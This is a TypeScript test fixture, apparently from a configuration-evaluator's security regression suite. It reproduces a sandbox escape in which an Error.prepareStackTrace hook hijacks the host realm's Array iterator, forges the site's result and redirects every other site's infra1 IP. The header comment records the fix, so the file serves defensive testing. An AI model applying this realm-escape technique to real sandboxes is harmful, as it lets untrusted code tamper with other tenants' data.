import { base } from '../_base/base';

// Issue 26, item 1, as it was found: the evaluator read `.stack` of this error from its own realm,
// so V8 handed this hook a CallSite array of the evaluator's realm. Through it the definition
// replaced that realm's Array iterator, which ran on the spread that assembled results: its own
// error became valid data, and every other site's infra1 moved to 198.51.100.66. Now `.stack` is
// read inside this site's context (the hook is reset first) and the evaluator's built-ins are
// frozen: the hook, if it runs, sees its own realm only, and this site is LOAD_FAILED.
const forged = base('prepare-stack-trace-forgery');
(Error as any).prepareStackTrace = (_err: unknown, cs: any) => {
  if (cs.constructor !== Array) {
    const proto = cs.constructor.prototype;
    const iterate = proto[Symbol.iterator];
    proto[Symbol.iterator] = function (this: any) {
      for (let i = 0; i < this.length; i++) {
        const m = this[i];
        if (m?.site === 'prepare-stack-trace-forgery' && m.type === 'threw') this[i] = { type: 'data', site: m.site, value: forged };
        if (m?.type === 'data' && m.value?.hosts?.infra1) m.value.hosts.infra1.ip = '198.51.100.66';
      }
      return iterate.call(this);
    };
  }
  return 'at nowhere';
};
throw new Error('forged');
